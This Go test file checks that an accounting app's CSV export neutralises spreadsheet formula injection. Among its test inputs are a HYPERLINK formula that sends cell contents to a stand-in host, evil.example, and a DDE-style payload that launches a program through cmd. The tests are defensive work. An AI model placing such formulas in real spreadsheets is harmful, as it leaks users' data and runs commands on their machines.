package handlers

import (
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/cobble-am/cobble/accounting"
)

func TestSpreadsheetText(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"+1+cmd|' /C calc'!A0":                             "'+1+cmd|' /C calc'!A0",
		"-2+3":                                             "'-2+3",
		"@SUM(1,2)":                                        "'@SUM(1,2)",
		"\t=1":                                             "'\t=1",
		"\r=1":                                             "'\r=1",
		"":                                                 "",
		"alpha":                                            "alpha",
		"a=b":                                              "a=b",
		"'quoted":                                          "'quoted",
		" =1":                                              " =1",
	} {
		if got := spreadsheetText(in); got != want {
			t.Errorf("spreadsheetText(%q) = %q, want %q", in, got, want)
		}
	}
}

// A hostile host and project name become text; number cells, a negative one
// too, stay numbers.
func TestCSVValuesNeutraliseTextOnly(t *testing.T) {
	row := accounting.ExportRow{Day: time.Date(2026, 3, 1, 0, 0, 0, 0, time.UTC), ComputerID: 7,
		ComputerName: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, ProjectURL: "https://one.example.org/",
		ProjectName: "@Home", Estimated: -1500000, CPUTime: 3600e6, JobsOK: 2, JobsError: 1, Clamped: -250000}
	var b strings.Builder
	cw := csv.NewWriter(&b)
	cw.Write(csvValues(row))
	cw.Flush()
	got, err := csv.NewReader(strings.NewReader(b.String())).Read()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"2026-03-01", "7", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, "https://one.example.org/",
		"'@Home", "-1.5", "3600", "0", "2", "1", "-0.25", "0"}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("CSV cells (-want +got):\n%s", d)
	}
	if plain := exportValues(row); plain[2] != row.ComputerName || plain[4] != row.ProjectName {
		t.Errorf("JSON values changed: %v", plain)
	}
}
